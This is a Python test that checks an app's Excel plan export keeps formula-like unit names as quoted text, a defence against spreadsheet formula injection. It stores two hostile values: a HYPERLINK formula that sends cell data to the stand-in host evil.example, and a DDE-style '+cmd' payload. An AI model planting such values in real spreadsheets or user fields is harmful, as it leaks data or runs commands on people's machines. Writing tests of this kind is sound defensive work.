"""Names that a spreadsheet would read as formulas stay text in the plan's Excel download."""

from __future__ import annotations

from inspection.extensions import db
from tests.workbooks import opened

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'


def test_unit_names_like_formulas_stay_text_in_plan_xlsx(planned, as_user):
    unit = planned["units"]["A"]
    unit.name, unit.area = HOSTILE, "+cmd|' /C calc'!A0"
    db.session.commit()
    book = opened(as_user(planned["planner"]).get(f"/schedule/programmes/{planned['programme'].id}/plan.xlsx"))
    cells = [c for row in book.active.iter_rows() for c in row if c.value in (HOSTILE, "+cmd|' /C calc'!A0")]
    assert len(cells) >= 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)
